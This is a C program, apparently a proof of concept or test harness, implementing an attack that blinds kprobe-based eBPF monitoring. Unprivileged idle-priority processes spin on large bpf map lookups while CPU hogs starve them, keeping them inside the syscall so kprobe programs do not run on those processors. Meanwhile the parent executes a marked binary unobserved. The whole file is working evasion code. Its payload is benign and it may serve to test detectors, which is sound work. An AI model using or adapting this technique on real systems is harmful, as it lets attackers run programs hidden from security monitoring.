/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * map-readers - an attack where unprivileged processes may use bpf(2): processes of the lowest scheduling class read a
 * large element of a map without end, and a few of the normal class leave them no processor, so that they stay in those
 * calls, during which the kernel runs no program of a kprobe on that processor. Meanwhile the caller executes programs.
 *
 *   map-readers READERS HOGS EXECS
 *
 * The readers and hogs run as nobody, each EXECS executes "true marked". Prints {"executed":N}, or fails if the kernel
 * lets nobody make a map.
 */
#include <err.h>
#include <grp.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CHECK(done) ((done) ? (void)0 : err(1, "%s", #done))
#define NOBODY 65534
#define VALUE_BYTES (1 << 22)
#define WAIT_S 300 /* as long as may pass on a loaded machine */
#define HOGGING_S 30 /* at most */
#define PROCESSES_MAX 128

static atomic_int *reading; /* readers that have read */

static long bpf(int command, union bpf_attr *attr)
{
    return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static void read_map(void)
{
    const struct sched_param param = {0};
    union bpf_attr create = {
        .map_type = BPF_MAP_TYPE_ARRAY, .key_size = sizeof(int), .value_size = VALUE_BYTES, .max_entries = 1};
    int key = 0, map = (int)bpf(BPF_MAP_CREATE, &create);
    void *value = malloc(VALUE_BYTES);
    union bpf_attr lookup = {.map_fd = (__u32)map, .key = (__u64)&key, .value = (__u64)value};

    CHECK(map >= 0 && value && !sched_setscheduler(0, SCHED_IDLE, &param));
    CHECK(!bpf(BPF_MAP_LOOKUP_ELEM, &lookup));
    (*reading)++;
    for (;;)
        CHECK(!bpf(BPF_MAP_LOOKUP_ELEM, &lookup));
}

static void hog(void)
{
    alarm(HOGGING_S);
    for (volatile int i = 0;; i++)
        ;
}

static pid_t begin(void (*act)(void))
{
    pid_t pid = fork();

    CHECK(pid >= 0);
    if (pid)
        return pid;
    CHECK(!setgroups(0, NULL) && !setresgid(NOBODY, NOBODY, NOBODY) && !setresuid(NOBODY, NOBODY, NOBODY));
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    act();
    _exit(1);
}

static void execute(void)
{
    pid_t pid = vfork();
    int status = 1;

    if (!pid) {
        execl("/tmp/bin/true", "true", "marked", NULL);
        _exit(127);
    }
    CHECK(pid > 0 && waitpid(pid, &status, 0) == pid && !status);
}

int main(int argc, char **argv)
{
    pid_t pids[PROCESSES_MAX];
    int readers = argc == 4 ? atoi(argv[1]) : 0, hogs = argc == 4 ? atoi(argv[2]) : 0, count = 0;

    if (readers < 1 || hogs < 1 || readers + hogs > PROCESSES_MAX)
        errx(2, "usage: map-readers READERS HOGS EXECS");
    reading = mmap(NULL, sizeof(*reading), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    CHECK(reading != MAP_FAILED);
    while (count < readers)
        pids[count++] = begin(read_map);
    for (time_t until = time(NULL) + WAIT_S; *reading < readers;) {
        CHECK(!waitpid(-1, NULL, WNOHANG) && time(NULL) <= until); /* none has failed */
        usleep(10000);
    }
    while (count < readers + hogs)
        pids[count++] = begin(hog);
    for (int i = atoi(argv[3]); i > 0; i--)
        execute();
    while (count > 0)
        kill(pids[--count], SIGKILL);
    while (wait(NULL) > 0)
        ;
    printf("{\"executed\":%d}\n", atoi(argv[3]));
    return 0;
}
